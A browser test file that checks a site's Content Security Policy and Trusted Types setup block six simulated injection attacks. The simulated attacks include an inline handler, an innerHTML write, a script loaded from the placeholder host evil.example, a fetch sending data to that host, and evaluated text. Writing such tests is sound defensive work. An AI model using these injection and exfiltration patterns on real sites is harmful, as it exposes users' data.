import { browserPages, hydrated } from "../support/browserPages";
import { policyViolationsOn } from "../support/policyViolations";

const { newPage } = browserPages();

const attacks: [string, string | (() => void)][] = [
  [
    "an injected script",
    () => {
      const frame = document.createElement("div");
      frame.setAttribute("onclick", "document.title = 'taken'");
      document.body.append(frame);
      frame.click();
    },
  ],
  [
    "injected HTML",
    () => {
      document.body.innerHTML = "<b>taken</b>";
    },
  ],
  [
    "a script from another host",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.body.append(script);
    },
  ],
  ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
  [
    "text that is evaluated",
    // The test's own code may evaluate text; a timer it leaves behind may not.
    "void setTimeout(() => new Function(`document.title = 'taken'`)())",
  ],
  [
    "an unknown Trusted Types policy",
    () => {
      window.trustedTypes?.createPolicy("default", {});
    },
  ],
];

test.each(attacks)("%s is refused", async (_what, attack) => {
  const page = await newPage();
  const refused = await policyViolationsOn(page);
  await page.goto("/about");
  await hydrated(page);
  const refusal = page.waitForEvent("console", () => refused.length > 0);
  await page.evaluate(attack).catch(() => undefined);
  await refusal;
  expect(await page.locator("h1").textContent()).not.toBe("");
  expect(await page.title()).not.toBe("taken");
});
